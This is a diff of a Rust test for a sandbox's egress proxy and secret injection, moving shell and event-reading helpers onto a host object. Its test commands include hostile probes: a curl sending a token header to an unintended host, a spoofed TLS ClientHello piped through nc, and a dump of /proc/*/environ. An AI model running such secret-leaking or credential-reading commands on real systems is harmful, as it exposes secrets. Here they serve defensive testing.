@@ -5,7 +5,6 @@
 
 use std::io::{Read, Write};
 use std::path::Path;
-use std::process::Output;
 use std::sync::Arc;
 
 use rustls_pki_types::ServerName;
@@ -71,17 +70,6 @@ fn client_hello(name: &str) -> Vec<u8> {
     let mut out = Vec::new();
     c.write_tls(&mut out).unwrap();
     out
-}
-
-fn sh(host: &Host, session: &str, script: &str) -> Output {
-    host.sbx(&["exec", session, "--", "sh", "-c", script])
-}
-
-fn decisions(host: &Host, session: &str) -> Vec<serde_json::Value> {
-    host.ok(&["events", session, "--json"])
-        .lines()
-        .filter_map(|l| serde_json::from_str(l).ok())
-        .collect()
 }
 
 fn logged(events: &[serde_json::Value], action: &str, resource: &str, rule: &str) -> bool {
@@ -181,11 +169,7 @@ fn egress_is_checked_audited_and_secrets_stay_on_the_host() {
     host.ok_in(&ws, &args);
 
     // Allowed: through the relay and the proxy, with the real secret injected upstream.
-    let out = sh(
-        &host,
-        "n",
-        "curl -sS --max-time 20 https://allowed.test/hello",
-    );
+    let out = host.sh("n", "curl -sS --max-time 20 https://allowed.test/hello");
     assert_eq!(text(&out.stdout), BODY, "{}", text(&out.stderr));
     let head = seen.lock().unwrap().pop().unwrap();
     assert!(head.starts_with("GET /hello HTTP/1.1"), "{head}");
@@ -202,7 +186,7 @@ fn egress_is_checked_audited_and_secrets_stay_on_the_host() {
         ("http://private.test:443/", "non-public-address"),
         ("http://loopback.test:443/", "non-public-address"),
     ] {
-        let out = sh(&host, "n", &format!("curl -sS --max-time 20 {url}"));
+        let out = host.sh("n", &format!("curl -sS --max-time 20 {url}"));
         let body = text(&out.stdout);
         assert!(
             body.contains(&format!("rule `{rule}`")),
@@ -218,17 +202,14 @@ fn egress_is_checked_audited_and_secrets_stay_on_the_host() {
         "https://private.test/",
         "https://loopback.test/",
     ] {
-        let out = sh(
-            &host,
+        let out = host.sh(
             "n",
             &format!("curl -sS --max-time 20 -o /dev/null -w '%{{http_connect}}' {url}"),
         );
         assert_eq!(text(&out.stdout), "403", "{url}: {}", text(&out.stderr));
     }
     // A CONNECT whose ClientHello names another host.
-    let out = sh(
-        &host,
-        "n",
+    let out = host.sh("n",
         "(printf 'CONNECT allowed.test:443 HTTP/1.1\\r\\n\\r\\n'; sleep 1; cat /workspace/hello-evil.bin; sleep 2) | nc 127.0.0.1 3128 | od -An -tx1 | tr -d ' \\n'",
     );
     let answer = text(&out.stdout);
@@ -238,8 +219,7 @@ fn egress_is_checked_audited_and_secrets_stay_on_the_host() {
     );
 
     // The placeholder, sent to a host the secret is not for.
-    let out = sh(
-        &host,
+    let out = host.sh(
         "n",
         "curl -sS --max-time 20 -H \"X-Token: $TEST_TOKEN\" https://other.test/",
     );
@@ -258,11 +238,7 @@ fn egress_is_checked_audited_and_secrets_stay_on_the_host() {
 
     // The guest holds the placeholder, never the secret: not in its
     // environment, not in its files, not anywhere in its memory.
-    let out = sh(
-        &host,
-        "n",
-        "echo $TEST_TOKEN; nohup sleep 300 >/dev/null 2>&1 &",
-    );
+    let out = host.sh("n", "echo $TEST_TOKEN; nohup sleep 300 >/dev/null 2>&1 &");
     let placeholder = text(&out.stdout).trim().to_string();
     assert!(
         placeholder.starts_with("sbx-secret-TEST_TOKEN-"),
@@ -270,7 +246,7 @@ fn egress_is_checked_audited_and_secrets_stay_on_the_host() {
     );
     // Searched on the host, so the secret never goes into the guest as a
     // search term. Guest RAM holds its tmpfs files too.
-    let out = sh(&host, "n", "cat /proc/*/environ | tr '\\0' '\\n'");
+    let out = host.sh("n", "cat /proc/*/environ | tr '\\0' '\\n'");
     let environ = text(&out.stdout);
     assert!(
         environ.contains(&placeholder) && !environ.contains(SECRET),
@@ -295,7 +271,7 @@ fn egress_is_checked_audited_and_secrets_stay_on_the_host() {
     );
 
     // Everything above is in the audit log with its rule.
-    let ev = decisions(&host, "n");
+    let ev = host.events("n");
     for (action, resource, rule) in [
         ("connect", "allowed.test:443 (127.0.0.2)", "test-hosts"),
         (
